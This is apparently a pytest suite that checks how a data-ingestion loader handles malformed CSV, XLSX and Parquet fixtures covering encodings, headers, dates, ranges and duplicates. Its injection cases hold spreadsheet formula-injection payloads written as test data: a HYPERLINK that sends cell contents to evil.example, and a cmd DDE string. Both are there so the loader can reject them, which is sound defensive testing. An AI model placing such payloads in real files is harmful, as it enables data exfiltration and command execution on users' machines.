"""The bad-input corpus: every malformed file in tests/fixtures/bad/ and exactly what the loader does with it.

Each case either fails the whole file (IngestError naming the file and the reason, a 'failed' ledger entry,
nothing loaded) or quarantines the bad rows with their reasons and row numbers while the good rows load with
the values asserted here. Rows read = rows loaded + rows quarantined is checked against the result, the raw
table, raw.rejected_rows and raw.ingested_files in every case.

The files are built by tests/fixtures/make_bad_inputs.py. Cases with a `bug` text caught a loader bug (since fixed);
"""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import duckdb
import pytest

from pipelines.ingest.load import ingest_file
from pipelines.ingest.readers import IngestError
from pipelines.sources import SOURCES

BAD = Path(__file__).resolve().parent / "fixtures" / "bad"
TODAY = date(2026, 1, 15)

_PLEDGE_ALL_MISSING = "; ".join(
    f"missing value in {c}"
    for c in (
        "city_code",
        "month",
        "registrations",
        "amount_10k_yuan",
        "patents_pledged",
        "trademarks_pledged",
        "enterprises_served",
        "first_time_borrowers",
    )
)
_CASE_TYPES = (
    "patent_infringement_dispute, counterfeit_patent, trademark, ecommerce, trade_fair, geographical_indication, other"
)


@dataclass(frozen=True)
class Case:
    id: str
    file: str  # <source>/<file name> under tests/fixtures/bad
    partition: int | None = 2025
    # Whole-file failure: the IngestError reason (exact text, or a compiled pattern for library messages).
    error: str | re.Pattern | None = None
    # Row-level outcome: row number -> exact reason (or pattern) in raw.rejected_rows ...
    rejected: dict = field(default_factory=dict)
    # ... and row number -> stored values (a subset of columns) for every row that loads.
    loaded: dict = field(default_factory=dict)
    notes: tuple[str, ...] = ()  # the result's notes, exactly
    raw_values: dict = field(default_factory=dict)  # row number -> {column: text kept in rejected_rows.raw_values}
    before: tuple[str, ...] = ()  # files (same source) ingested first
    bug: str | None = None  # the loader bug this case caught when it was written (since fixed)

    @property
    def source(self) -> str:
        return self.file.split("/")[0]


CASES = [
    # ---------------------------------------------------------------- whole file rejected
    Case("empty-0-bytes", "pledge_loans/empty_0_bytes.csv", error="file is empty"),
    Case("blank-lines-only", "pledge_loans/blank_lines_only.csv", error="file is empty"),
    Case("header-only-csv", "pledge_loans/header_only.csv", error="file has a header but no data rows"),
    Case("header-only-xlsx-with-title", "pledge_loans/header_only.xlsx", error="file has a header but no data rows"),
    Case("header-only-parquet", "enforcement_cases/header_only.parquet", error="file has a header but no data rows"),
    Case(
        "no-header-row",
        "training_events/no_header.csv",
        error="no header row found in the first 15 rows: expected columns such as "
        "event_id, city_code, event_date, audience, participants",
    ),
    Case(
        "missing-required-column",
        "pledge_loans/missing_amount_column.csv",
        error="missing required column: amount_10k_yuan (or 质押金额(万元) / 融资金额(万元))",
    ),
    Case(
        "duplicate-header-via-alias",
        "pledge_loans/duplicate_header_alias.csv",
        error="column 'registrations' appears twice (as '登记笔数' and another header)",
    ),
    Case(
        "duplicate-header-exact",
        "pledge_loans/duplicate_header_exact.csv",
        error=re.compile(r"column 'registrations' appears twice.*"),
        bug="a header repeated verbatim is renamed registrations_duplicated_0 by Polars and its column silently "
        "ignored (only a note), while the same clash via an alias fails the file",
    ),
    Case(
        "invalid-bytes",
        "training_events/invalid_bytes.csv",
        error="not valid UTF-8 or GBK text (byte 143): cannot decode",
    ),
    Case(
        "mixed-utf8-and-gbk",
        "training_events/mixed_utf8_gbk.csv",
        error=re.compile(r"(?s).*encoding.*line 3.*"),
        bug="a file whose rows mix UTF-8 and GBK is decoded as GB18030 as a whole and the UTF-8 title "
        "专利导航 is stored as mojibake 涓撳埄瀵艰埅 without any note or rejection",
    ),
    Case("truncated-xlsx", "pledge_loans/truncated.xlsx", error=re.compile(r"(?s)unreadable Excel file \(.*\)")),
    Case("csv-renamed-xlsx", "pledge_loans/csv_renamed.xlsx", error=re.compile(r"(?s)unreadable Excel file \(.*\)")),
    Case(
        "truncated-parquet",
        "enforcement_cases/truncated.parquet",
        error=re.compile(r"(?s)unreadable Parquet file \(.*\)"),
    ),
    # An .xls is read (xlrd); this one holds nothing after its OLE2 signature.
    Case(
        "legacy-xls",
        "enforcement_cases/legacy_excel.xls",
        error=re.compile(r"(?s)unreadable Excel file \(.*\)"),
    ),
    # The file must fail; the wording is pinned by the xfail case below once it is fixed.
    Case(
        "truncated-inside-quotes",
        "training_events/truncated_in_quotes.csv",
        error=re.compile(r"(?s)malformed CSV \(.*\)|.*quot.*"),
    ),
    Case(
        "truncated-inside-quotes-message",
        "training_events/truncated_in_quotes.csv",
        error=re.compile(r"(?s)(?!.*infer_schema_length).*quot.*"),
        bug="the reason is Polars' parser message advising to increase `infer_schema_length`, which means "
        "nothing to an office user; it should say the file ends inside a quoted field (cut off)",
    ),
    # ---------------------------------------------------------------- encodings
    Case(
        "gbk-chinese-headers-total-row",
        "pledge_loans/gbk_chinese_headers.csv",
        loaded={
            2: {"city_code": "440300", "month": date(2025, 1, 1), "registrations": 12, "amount_10k_yuan": 5600.5},
            3: {"city_code": "320500", "month": date(2025, 2, 1), "registrations": 8, "amount_10k_yuan": 3100.0},
        },
        # issue 12: a total row is refused for being one (its own reason, not the symptoms of it)
        rejected={4: "total row ('合计'): a sum of other rows, not a record"},
        raw_values={4: {"city_code": "合计", "registrations": "20"}},
        notes=("decoded from gbk",),
    ),
    Case(
        "gbk-chinese-enums",
        "training_events/gbk_chinese_enums.csv",
        loaded={
            2: {"audience": "officials", "title": "知识产权强市建设专题培训"},
            3: {"audience": "schools", "participants": 120, "hours": 1.5, "title": "青少年知识产权普及"},
        },
        notes=("decoded from gbk",),
    ),
    Case(
        "utf8-bom-multiline-cell",
        "training_events/utf8_bom.csv",
        loaded={
            2: {"event_date": date(2025, 3, 1), "audience": "enterprises", "title": "专利导航"},
            3: {"city_code": "330100", "audience": "service_agencies", "title": "商标代理\n实务"},
        },
        rejected={4: "value below minimum in participants: 0 (min 1)"},
        notes=("decoded from utf-8-sig",),
    ),
    Case(
        "utf16-with-bom",
        "training_events/utf16_bom.csv",
        loaded={2: {"audience": "enterprises", "title": "专利导航"}},
        notes=("decoded from utf-16",),
        bug="a UTF-16 file with a byte-order mark (Excel 'Unicode text') is unambiguous but is refused as "
        "'not valid UTF-8 or GBK text (byte 0)'",
    ),
    Case(
        "population-bom-fullwidth-brackets",
        "population/bom_fullwidth_headers.csv",
        partition=None,
        loaded={
            2: {
                "region_code": "440000",
                "year": 2024,
                "population_10k": 12780.6,
                "gdp_100m_yuan": 141633.8,
                "source": "统计年鉴",
            }
        },
        rejected={
            3: "value below minimum in population_10k: 0.0 (min 0.01)",
            4: "negative value in gdp_100m_yuan: -1.0 (min 0)",
            5: "not a whole number in year: 2024.5",
        },
        notes=("decoded from utf-8-sig",),
    ),
    # ---------------------------------------------------------------- headers and layout
    Case(
        "extra-column",
        "pledge_loans/extra_column.csv",
        loaded={2: {"city_code": "440300", "registrations": 3, "amount_10k_yuan": 100.0}},
        notes=("ignored extra column: 备注",),
    ),
    Case(
        "xlsx-title-rows-numeric-codes",
        "pledge_loans/title_rows_numeric_codes.xlsx",
        loaded={
            4: {"city_code": "440300", "month": date(2025, 1, 1), "amount_10k_yuan": 100.5},
            6: {"city_code": "320500", "month": date(2025, 3, 1), "registrations": 3},
        },
        rejected={
            5: "negative value in registrations: -5 (min 0)",
            7: "total row ('合计'): a sum of other rows, not a record",
        },
        notes=("skipped 2 title rows above the header",),
    ),
    Case(
        "patent-stats-xlsx-float-codes",
        "patent_stats/numeric_codes.xlsx",
        partition=None,
        loaded={
            2: {
                "region_code": "440000",
                "region_name": "广东省",
                "year": 2024,
                "grants_invention": 100000,
                "in_force_invention": 600000,
                "in_force_total": None,
            }
        },
        rejected={
            3: "absurd value in grants_invention: 1000000000 (max 5000000)",
            4: "not a whole number in grants_invention: 1.5",
            5: "negative value in grants_design: -5 (min 0)",
        },
    ),
    Case(
        "truncated-mid-row",
        "pledge_loans/truncated_mid_row.csv",
        loaded={
            2: {"month": date(2025, 1, 1), "registrations": 3},
            3: {"month": date(2025, 2, 1), "registrations": 4, "amount_10k_yuan": 200.0},
        },
        rejected={
            4: "missing value in patents_pledged; missing value in trademarks_pledged; "
            "missing value in enterprises_served; missing value in first_time_borrowers; "
            "truncated row: file ends after 4 of 8 fields"
        },
        raw_values={4: {"city_code": "440300", "amount_10k_yuan": "1", "patents_pledged": None}},
        notes=("truncated last row (4 of 8 fields)",),
    ),
    Case(
        "unquoted-thousands-separator",
        "pledge_loans/unquoted_thousands.csv",
        rejected={2: re.compile(r".*9 fields.*8.*")},
        bug="a row with more fields than the header (unquoted 12,345) is cut to the header's width by "
        "truncate_ragged_lines, every value after the split shifts one column and the row loads as "
        "amount 12, patents 345, trademarks 20 ...",
    ),
    Case(
        "blank-lines",
        "pledge_loans/blank_lines.csv",
        loaded={2: {"registrations": 3}},
        rejected={4: "negative value in registrations: -5 (min 0)"},
        bug="blank CSV lines (one in the middle, two at the end) are counted as rows and quarantined with "
        "eight 'missing value' reasons each; XLSX skips blank rows. Expected: skipped, numbering kept",
    ),
    # ---------------------------------------------------------------- types and ranges
    Case(
        "numbers",
        "pledge_loans/bad_numbers.csv",
        loaded={
            2: {"month": date(2025, 1, 1), "amount_10k_yuan": 1234.5},
            8: {"city_code": "440300", "month": date(2025, 7, 1)},
        },
        rejected={
            3: "not a number in registrations: 'n/a'",
            4: "not a whole number in registrations: 3.5",
            5: "negative value in registrations: -5 (min 0)",
            6: "absurd value in amount_10k_yuan: 900000000.0 (max 50000000)",
            7: "first_time_borrowers exceed enterprises_served",
        },
        raw_values={3: {"registrations": "n/a", "month": "2025-02"}},
    ),
    Case(
        "amount-in-yi-yuan",
        "pledge_loans/amount_in_yi_yuan.csv",
        loaded={2: {"amount_10k_yuan": 15000.0}},
        rejected={3: "absurd value in amount_10k_yuan: 60000000.0 (max 50000000)"},
        notes=("converted amount_10k_yuan from another unit (x10000)",),
    ),
    Case(
        "amount-in-yuan",
        "pledge_loans/amount_in_yuan.csv",
        loaded={2: {"city_code": "320500", "amount_10k_yuan": pytest.approx(123.4567)}},
        notes=("converted amount_10k_yuan from another unit (x0.0001)",),
    ),
    Case(
        "ranges-codes-enums",
        "training_events/ranges_codes_enums.csv",
        loaded={8: {"city_code": "440305"}, 9: {"city_code": "440000"}, 11: {"audience": "public"}},
        rejected={
            2: "value below minimum in participants: 0 (min 1)",
            3: "absurd value in participants: 250000 (max 100000)",
            4: "value below minimum in hours: 0.2 (min 0.5)",
            5: "unknown region code in city_code: '999999'",
            6: "unknown region code in city_code: '44030'",
            7: "missing value in city_code",
            10: "unknown audience 'students' (allowed: officials, enterprises, service_agencies, schools, public)",
        },
    ),
    # ---------------------------------------------------------------- dates
    Case(
        "dates",
        "training_events/dates.csv",
        loaded={
            3: {"event_date": date(2025, 3, 5)},
            4: {"event_date": date(2025, 4, 1)},
            5: {"event_date": date(2025, 3, 7)},
        },
        rejected={
            2: "not a date in event_date: '2025-13-45'",
            6: "not a date in event_date: 'next week'",
            7: "missing value in event_date",
        },
    ),
    Case(
        "month-as-excel-serial",
        "pledge_loans/month_as_excel_serial.csv",
        loaded={2: {"month": date(2025, 4, 1)}},
        bug="the Excel serial 45748 (2025-04-01) in `month` is read by the %Y%m month format first, as "
        "4574-08-01, and quarantined as a future date; event dates take the serial correctly",
    ),
    Case(
        "future-date",
        "training_events/future_date_2026.csv",
        partition=2026,
        loaded={2: {"event_date": date(2026, 1, 10), "year": 2026}},
        rejected={3: "future date in event_date: 2026-03-01"},
    ),
    Case(
        "outside-partition-year",
        "training_events/outside_partition_2025.csv",
        loaded={2: {"event_date": date(2025, 12, 31), "year": 2025}},
        rejected={3: "event_date 2024-12-31 outside partition year 2025"},
    ),
    Case(
        "future-withdrawal-chinese-status",
        "programme_cities/chinese_statuses.csv",
        partition=None,
        loaded={
            2: {"city_code": "440300", "status": "active", "unit_name": "深圳市"},
            3: {"city_code": "320500", "status": "rectification", "status_since": date(2024, 5, 1)},
        },
        rejected={
            4: "future date in withdrawn_on: 2027-01-01",
            5: "unknown status '暂停' (allowed: active, rectification, withdrawn, promoted)",
        },
    ),
    Case(
        "grants-enums-and-date-order",
        "patent_grants/chinese_enums_dates.csv",
        loaded={
            2: {
                "patent_type": "invention",
                "applicant_type": "enterprise",
                "region_code": "440305",
                "hv_strategic_industry": True,
                "hv_overseas_family": False,
                "is_high_value": True,
                "applicant_name": "深圳某科技有限公司",
                "lapse_date": None,
                "year": 2025,
            },
            3: {"patent_type": "utility_model", "applicant_type": "university", "ipc_main": None},
        },
        rejected={
            4: "grant_date before application_date",
            5: "kind code U does not match patent type invention",
            6: "not a yes/no value in is_high_value: '也许'",
        },
    ),
    Case(
        "targets-reversed-years-duplicate",
        "targets/reversed_years_duplicates.csv",
        partition=None,
        # QLT01 twice with other values: neither loads (the first of them did, silently, before); QLT02 twice alike:
        # the first loads
        loaded={5: {"indicator_code": "QLT02", "baseline_value": 12.5, "target_value": 20.0}},
        rejected={
            2: "conflicting records: 440300/plan_2021_2025/QLT01 differs from row 4 in baseline_value, target_value "
            "(no row of this key is loaded)",
            3: "target_year not after baseline_year",
            4: "conflicting records: 440300/plan_2021_2025/QLT01 differs from row 2 in baseline_value, target_value "
            "(no row of this key is loaded)",
            6: "duplicate record: 440300/plan_2021_2025/QLT02 same as row 5",
        },
    ),
    # ---------------------------------------------------------------- duplicates, codes, enums
    Case(
        "parquet-float-codes-duplicates",
        "enforcement_cases/typed_codes_duplicates.parquet",
        # C001 twice with other values: neither loads (the first of them did, silently, before); C005 twice alike
        loaded={
            6: {
                "case_id": "C005",
                "city_code": "440300",
                "case_type": "counterfeit_patent",
                "resolution": "penalty",
                "closed_date": date(2025, 5, 1),
            }
        },
        rejected={
            1: "conflicting records: C001 differs from row 4 in case_type, closed_date, resolution "
            "(no row of this key is loaded)",
            2: "closed_date before filed_date",
            3: "unknown region code in city_code: '999999'",
            4: "conflicting records: C001 differs from row 1 in case_type, closed_date, resolution "
            "(no row of this key is loaded)",
            5: f"unknown case_type '民事纠纷' (allowed: {_CASE_TYPES})",
            7: "duplicate record: C005 same as row 6",
        },
    ),
    Case(
        "duplicate-of-earlier-file",
        "enforcement_cases/second_batch.csv",
        before=("enforcement_cases/first_batch.csv",),
        # issue 12: C002 comes again with another filing date: a correction, and the latest received file wins
        # (it was quarantined as a duplicate before; an identical re-send still is, see office_files cases).
        loaded={
            2: {"case_id": "C002", "filed_date": date(2025, 5, 2)},
            3: {"case_id": "C003", "case_type": "trade_fair", "resolution": "withdrawn"},
        },
        notes=("corrected 1 row loaded earlier from first_batch.csv: C002 (filed_date 2025-03-02 → 2025-05-02)",),
    ),
    # ---------------------------------------------------------------- injection and long text
    Case(
        "formula-injection-long-text",
        "training_events/injection_and_long_text.csv",
        loaded={7: {"event_id": "E006", "title": "正常标题"}},
        rejected={
            2: "formula-like text in title (possible spreadsheet injection): "
            "'=HYPERLINK(\"http://evil.example/?d=\"&A1,'",
            3: "formula-like text in title (possible spreadsheet injection): '+cmd|' /C calc'!A0'",
            4: "formula-like text in title (possible spreadsheet injection): '@SUM(A1:A9)'",
            5: "text too long in title: 5000 characters (max 200)",
            6: "text too long in event_id: 41 characters (max 40)",
        },
    ),
    Case(
        "formula-injection-xlsx-text-cells",
        "training_events/injection.xlsx",
        loaded={4: {"title": "专利导航"}},
        rejected={
            2: "formula-like text in title (possible spreadsheet injection): "
            '\'=HYPERLINK("http://evil.example","点击")\'',
            3: "formula-like text in title (possible spreadsheet injection): '@SUM(A1:A9)'",
        },
    ),
    Case(
        "formula-injection-leading-minus",
        "training_events/injection_minus.csv",
        rejected={2: re.compile(r"formula-like text in title .*")},
        bug="'-2+3+cmd|...' is a formula to Excel (OWASP CSV injection lists = + - @) but only = + @ are "
        "checked, so it loads and reaches Excel extracts",
    ),
]


def _matches(expected, actual) -> bool:
    if isinstance(expected, re.Pattern):
        return actual is not None and expected.fullmatch(actual) is not None
    return expected == actual


def _params():
    for c in CASES:
        marks = []
        yield pytest.param(c, id=c.id, marks=marks)


def _ingest(con: duckdb.DuckDBPyConnection, tmp_path: Path, rel: str, partition: int | None):
    # Copy so that tests never write next to the corpus and file names stay what the case says.
    path = tmp_path / "landing" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(BAD / rel, path)
    return ingest_file(con, SOURCES[rel.split("/")[0]], path, partition=partition, today=TODAY)


def _one(con, sql: str, params: list):
    rows = con.execute(sql, params).fetchall()
    assert len(rows) == 1, rows
    return rows[0]


@pytest.mark.parametrize("case", list(_params()))
def test_bad_input(case: Case, warehouse, tmp_path):
    con = warehouse
    source = SOURCES[case.source]
    name = Path(case.file).name
    for rel in case.before:
        first = _ingest(con, tmp_path, rel, case.partition)
        assert (first.status, first.rows_rejected) == ("loaded", 0)

    if case.error is not None:
        with pytest.raises(IngestError) as info:
            _ingest(con, tmp_path, case.file, case.partition)
        err = info.value
        assert err.file_name == name
        assert _matches(case.error, err.reason), err.reason
        assert str(err) == f"{name}: {err.reason}"
        # Nothing of the file is loaded; the ledger says why.
        assert _one(con, f"SELECT count(*) FROM {source.table} WHERE _source_file = ?", [name]) == (0,)
        assert _one(con, "SELECT count(*) FROM raw.rejected_rows WHERE file_name = ?", [name]) == (0,)
        assert _one(
            con,
            "SELECT status, message, rows_read, rows_loaded, rows_rejected FROM raw.ingested_files "
            "WHERE source = ? AND file_name = ?",
            [source.name, name],
        ) == ("failed", err.reason, 0, 0, 0)
        return

    result = _ingest(con, tmp_path, case.file, case.partition)
    assert result.status == "loaded"
    assert list(result.notes) == list(case.notes)

    rejected = dict(
        con.execute(
            "SELECT row_number, reason FROM raw.rejected_rows WHERE source = ? AND file_name = ? ORDER BY row_number",
            [source.name, name],
        ).fetchall()
    )
    assert rejected.keys() == case.rejected.keys(), rejected
    for row, reason in case.rejected.items():
        assert _matches(reason, rejected[row]), (row, rejected[row])

    for row, expected in case.raw_values.items():
        (text,) = _one(
            con, "SELECT raw_values FROM raw.rejected_rows WHERE file_name = ? AND row_number = ?", [name, row]
        )
        kept = json.loads(text)
        assert {k: kept[k] for k in expected} == expected

    stored = con.sql(f"SELECT * FROM {source.table} WHERE _source_file = $f", params={"f": name}).pl()
    by_row = {r["_row_number"]: r for r in stored.iter_rows(named=True)}
    assert by_row.keys() == case.loaded.keys(), sorted(by_row)
    for row, expected in case.loaded.items():
        assert {k: by_row[row][k] for k in expected} == expected, row

    # Accounting: rows read = loaded + quarantined, in the result, the tables and the ledger alike.
    n_loaded, n_rejected = len(case.loaded), len(case.rejected)
    assert (result.rows_read, result.rows_loaded, result.rows_rejected) == (n_loaded + n_rejected, n_loaded, n_rejected)
    assert _one(
        con,
        "SELECT status, rows_read, rows_loaded, rows_rejected, message FROM raw.ingested_files "
        "WHERE source = ? AND file_name = ?",
        [source.name, name],
    ) == ("loaded", n_loaded + n_rejected, n_loaded, n_rejected, "; ".join(case.notes))


def test_corpus_has_a_case_for_every_file():
    files = {str(p.relative_to(BAD)) for p in BAD.rglob("*") if p.is_file()}
    covered = {c.file for c in CASES} | {f for c in CASES for f in c.before}
    assert files == covered


def test_committed_corpus_is_what_the_script_builds(tmp_path):
    import importlib.util

    spec = importlib.util.spec_from_file_location("make_bad_inputs", BAD.parent / "make_bad_inputs.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.main(tmp_path / "bad")
    built = {str(p.relative_to(tmp_path / "bad")): p.read_bytes() for p in (tmp_path / "bad").rglob("*") if p.is_file()}
    committed = {str(p.relative_to(BAD)): p.read_bytes() for p in BAD.rglob("*") if p.is_file()}
    assert built.keys() == committed.keys()
    assert [f for f in built if built[f] != committed[f]] == []


def test_same_bytes_again_are_skipped_and_change_nothing(warehouse, tmp_path):
    first = _ingest(warehouse, tmp_path, "pledge_loans/bad_numbers.csv", 2025)
    again = _ingest(warehouse, tmp_path, "pledge_loans/bad_numbers.csv", 2025)
    assert (first.status, again.status) == ("loaded", "skipped")
    assert again.message.startswith("already ingested as bad_numbers.csv at ")
    assert (again.rows_read, again.rows_loaded, again.rows_rejected) == (0, 0, 0)
    assert _one(warehouse, "SELECT count(*) FROM raw.pledge_loans", []) == (2,)
    assert _one(warehouse, "SELECT count(*) FROM raw.rejected_rows WHERE source = 'pledge_loans'", []) == (5,)
    assert _one(warehouse, "SELECT count(*) FROM raw.ingested_files WHERE source = 'pledge_loans'", []) == (1,)


def test_fixed_file_with_the_same_name_replaces_the_failed_attempt(warehouse, tmp_path):
    name = "truncated_in_quotes.csv"
    with pytest.raises(IngestError):
        _ingest(warehouse, tmp_path, f"training_events/{name}", 2025)
    fixed = tmp_path / "landing" / "training_events" / name
    fixed.write_bytes(fixed.read_bytes() + '培训"\n'.encode())
    result = ingest_file(warehouse, SOURCES["training_events"], fixed, partition=2025, today=TODAY)
    assert (result.rows_read, result.rows_loaded, result.rows_rejected) == (2, 2, 0)
    assert warehouse.execute("SELECT event_id, title FROM raw.training_events ORDER BY event_id").fetchall() == [
        ("E001", "专利导航"),
        ("E002", "知识产权培训"),
    ]
    assert warehouse.execute(
        "SELECT status FROM raw.ingested_files WHERE file_name = ? ORDER BY ingested_at", [name]
    ).fetchall() == [("replaced",), ("loaded",)]


def _no_cities(tmp_path: Path):
    con = duckdb.connect(str(tmp_path / "empty.duckdb"))
    with pytest.raises(IngestError) as info:
        _ingest(con, tmp_path, "pledge_loans/bad_numbers.csv", 2025)
    return con, info.value


def test_region_codes_cannot_be_checked_before_cities_are_loaded(tmp_path):
    con, err = _no_cities(tmp_path)
    assert str(err) == "bad_numbers.csv: administrative divisions (raw.cities) are not loaded yet; load cities first"
    assert _one(con, "SELECT count(*) FROM raw.pledge_loans", []) == (0,)
    assert _one(con, "SELECT count(*) FROM raw.rejected_rows", []) == (0,)


def test_missing_cities_failure_is_in_the_ledger(tmp_path):
    con, err = _no_cities(tmp_path)
    assert con.execute(
        "SELECT status, message FROM raw.ingested_files WHERE file_name = 'bad_numbers.csv'"
    ).fetchall() == [("failed", err.reason)]
